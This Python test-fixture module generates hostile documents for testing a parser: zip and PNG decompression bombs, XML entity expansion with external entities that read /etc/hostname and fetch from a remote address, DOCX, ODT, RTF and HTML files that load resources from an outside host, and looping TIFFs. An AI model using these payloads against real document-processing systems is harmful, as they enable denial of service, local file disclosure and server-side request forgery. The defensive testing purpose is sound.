"""Office files, pages of the web, texts and pictures that nobody should open unguarded."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import docx
from PIL import Image

_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
_OASIS = "urn:oasis:names:tc:opendocument:xmlns"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
SAID = "ขอความอนุเคราะห์ข้อมูลโรงเรียนบ้านทดสอบ"


def good_docx(said: str = SAID) -> bytes:
    document = docx.Document()
    document.add_paragraph(said)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def repacked(raw: bytes, changed: dict[str, bytes]) -> bytes:
    """Return an archive with some members replaced or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(raw)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name not in changed:
                new.writestr(name, old.read(name))
        for name, data in changed.items():
            new.writestr(name, data)
    return out.getvalue()


def swollen_docx(unpacked: int) -> bytes:
    """Return a DOCX whose body unpacks a thousandfold."""
    return repacked(good_docx(), {"word/document.xml": b" " * unpacked})


def lying_docx(unpacked: int) -> bytes:
    """Return a swollen DOCX whose table of contents says that the body is small."""
    raw = bytearray(swollen_docx(unpacked))
    true, false = struct.pack("<I", unpacked), struct.pack("<I", 4000)
    return bytes(raw.replace(true, false))


def crowded_docx(members: int) -> bytes:
    return repacked(good_docx(), {f"word/media/{n}.png": b"" for n in range(members)})


def calling_docx(address: str) -> bytes:
    """Return a DOCX whose template, picture, object, chunk and link lie on another machine."""
    relations = "".join(
        f'<Relationship Id="x{kind}" Type="{_LINKS}/{kind}" Target="{address}/{kind}"'
        ' TargetMode="External"/>'
        for kind in ("image", "hyperlink", "aFChunk", "oleObject", "subDocument", "header")
    )
    picture = (
        f'<w:r><w:drawing><a:blip xmlns:a="{_DRAWING}/main" r:link="ximage"/></w:drawing></w:r>'
        '<w:fldSimple w:instr="INCLUDEPICTURE &quot;' + address + '/field&quot;"/>'
    )
    body = (
        f'<w:document xmlns:w="{_WORD}" xmlns:r="{_LINKS}"><w:body>'
        f"<w:p><w:r><w:t>{SAID}</w:t></w:r>{picture}</w:p>"
        '<w:altChunk r:id="xaFChunk"/><w:subDoc r:id="xsubDocument"/></w:body></w:document>'
    )
    head = f'<Relationships xmlns="{_PACKAGE}/relationships">'
    template = (
        f'<Relationship Id="t" Type="{_LINKS}/attachedTemplate" Target="{address}/template"'
        ' TargetMode="External"/>'
    )
    return repacked(
        good_docx(),
        {
            "word/document.xml": body.encode(),
            "word/_rels/document.xml.rels": f"{head}{relations}</Relationships>".encode(),
            "word/_rels/settings.xml.rels": f"{head}{template}</Relationships>".encode(),
        },
    )


def entities(address: str) -> str:
    """Return a document type that swells to 10^10 words and calls a file and a machine."""
    rungs = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 11))
    return (
        f'<!DOCTYPE d [<!ENTITY e0 "lol">{rungs}<!ENTITY file SYSTEM "file:///etc/hostname">'
        f'<!ENTITY far SYSTEM "{address}/entity"><!ENTITY % outer SYSTEM "{address}/outer">'
        "%outer;]>"
    )


def swelling_docx(address: str) -> bytes:
    body = (
        f'<?xml version="1.0"?>{entities(address)}<w:document xmlns:w="{_WORD}"><w:body><w:p><w:r>'
        f"<w:t>{SAID}&e10;&file;&far;</w:t></w:r></w:p></w:body></w:document>"
    )
    return repacked(good_docx(), {"word/document.xml": body.encode()})


def odt(body: str, head: str = "") -> bytes:
    """Return an OpenDocument text of the paragraphs' XML."""
    content = (
        f'<?xml version="1.0"?>{head}<office:document-content xmlns:office="{_OASIS}:office:1.0"'
        f' xmlns:text="{_OASIS}:text:1.0" xmlns:draw="{_OASIS}:drawing:1.0"'
        ' xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2">'
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
    kind = "application/vnd.oasis.opendocument.text"
    manifest = (
        f'<manifest:manifest xmlns:manifest="{_OASIS}:manifest:1.0"><manifest:file-entry'
        f' manifest:full-path="/" manifest:media-type="{kind}"/><manifest:file-entry'
        ' manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", kind)
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", manifest)
    return out.getvalue()


def swelling_odt(address: str) -> bytes:
    return odt(f"<text:p>{SAID}&e10;&file;&far;</text:p>", entities(address))


def calling_odt(address: str) -> bytes:
    """Return an OpenDocument text whose picture, frame and section lie on another machine."""
    link = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'
    return odt(
        f"<text:p>{SAID}<draw:frame><draw:image xlink:href='{address}/image.png' {link}/>"
        f"</draw:frame><draw:frame><draw:object xlink:href='{address}/object' {link}/></draw:frame>"
        f"<draw:frame><draw:floating-frame xlink:href='{address}/frame' {link}/></draw:frame>"
        "</text:p>"
        f"<text:section text:name='s'><text:section-source xlink:href='{address}/section'"
        " xlink:show='embed'/><text:p/></text:section>"
    )


def rtf(body: str) -> bytes:
    written = "".join(c if c.isascii() else f"\\u{ord(c)}?" for c in body)
    return ("{\\rtf1\\ansi\\uc1 " + written + "}").encode("ascii")


def calling_rtf(address: str) -> bytes:
    """Return a rich text whose template and pictures lie on another machine."""
    return rtf(
        f"{{\\*\\template {address}/template.dot}}{SAID}"
        f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{address}/picture.png"}}{{\\fldrslt }}}}'
        f'{{\\field{{\\*\\fldinst INCLUDETEXT "{address}/text.doc"}}{{\\fldrslt }}}}'
    )


def deep_rtf(depth: int) -> bytes:
    return rtf("{" * depth + SAID + "}" * depth)


def workbook(sheet: str, head: str = "") -> bytes:
    """Return a spreadsheet of one sheet's XML."""
    names = f'xmlns="{_SHEET}" xmlns:r="{_LINKS}"'
    relations = f'<Relationships xmlns="{_PACKAGE}/relationships">'
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": f'{relations}<Relationship Id="r1" Type="{_LINKS}/officeDocument"'
        ' Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {names}><sheets><sheet name="S" sheetId="1" r:id="r1"/>'
        "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": f'{relations}<Relationship Id="r1" Type="{_LINKS}/worksheet"'
        ' Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?>{head}<worksheet xmlns="{_SHEET}">'
        f"{sheet}</worksheet>",
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()


def cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def swelling_workbook(address: str) -> bytes:
    row = f"<row r='1'>{cell('A1', SAID)}{cell('B1', '&e10;&file;&far;')}</row>"
    return workbook(f"<sheetData>{row}</sheetData>", entities(address))


def wide_workbook() -> bytes:
    """Return a sheet that declares every row and column, and has a cell at either end."""
    first = f"<row r='1'>{cell('A1', SAID)}</row>"
    last = f"<row r='1048576'>{cell('XFD1048576', SAID)}</row>"
    size = '<dimension ref="A1:XFD1048576"/>'
    return workbook(f"{size}<sheetData>{first}{last}</sheetData>")


def declared_workbook() -> bytes:
    """Return a sheet of one cell that declares a million rows."""
    row = f"<row r='1'>{cell('A1', SAID)}</row>"
    return workbook(f'<dimension ref="A1:XFD1048576"/><sheetData>{row}</sheetData>')


def long_workbook(rows: int) -> bytes:
    return workbook(f"<sheetData><row>{cell('A1', SAID)}</row>{'<row/>' * rows}</sheetData>")


def nested_html(depth: int) -> bytes:
    return f"<html><body>{'<div>' * depth}<p>{SAID}</p>{'</div>' * depth}".encode()


def calling_html(address: str) -> bytes:
    return (
        f"<!DOCTYPE html SYSTEM '{address}/dtd'><html><head><base href='{address}/'>"
        f"<link rel='stylesheet' href='{address}/css'><script src='{address}/js'></script>"
        f"<meta http-equiv='refresh' content='0; url={address}/next'></head><body>"
        f"<img src='{address}/img'><iframe src='{address}/frame'></iframe>"
        f"<object data='{address}/object'></object><p>{SAID}</p></body></html>"
    ).encode()


def marked_text(marks: int) -> bytes:
    """Return a text of which one consonant carries all the marks."""
    return (f"{SAID} ก" + "่ี" * (marks // 2) + "\n" + SAID).encode()


def many_frames(count: int) -> bytes:
    """Return a TIFF of `count` frames, each a directory of its own over the same dots."""
    return _tiff(count, last=0)


def frames_in_a_ring(count: int) -> bytes:
    """Return a TIFF whose last directory names the first as the next."""
    return _tiff(count, last=8 + 16)


def _tiff(count: int, last: int) -> bytes:
    dots = b"\xff" * 16
    tags = ((256, 16), (257, 8), (258, 1), (259, 1), (262, 1), (273, 8), (277, 1), (278, 8),
            (279, 16))  # fmt: skip
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    size = 2 + len(entries) + 4
    out = struct.pack("<2sHI", b"II", 42, 8 + 16) + dots
    for number in range(count):
        following = 8 + 16 + (number + 1) * size if number + 1 < count else last
        out += struct.pack("<H", len(tags)) + entries + struct.pack("<I", following)
    return out


def vast_png(side: int) -> bytes:
    """Return a PNG that declares `side` by `side` dots and holds a few."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    packed = zlib.compress(bytes(1 << 20), 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
    )


def talkative_png(unpacked: int) -> bytes:
    """Return a small PNG with a packed comment that unpacks a thousandfold."""
    raw = io.BytesIO()
    Image.new("L", (40, 40), 255).save(raw, "PNG")
    body = b"Comment\0\0" + zlib.compress(b" " * unpacked, 9)
    comment = struct.pack(">I", len(body)) + b"zTXt" + body
    comment += struct.pack(">I", zlib.crc32(b"zTXt" + body))
    return raw.getvalue()[:33] + comment + raw.getvalue()[33:]
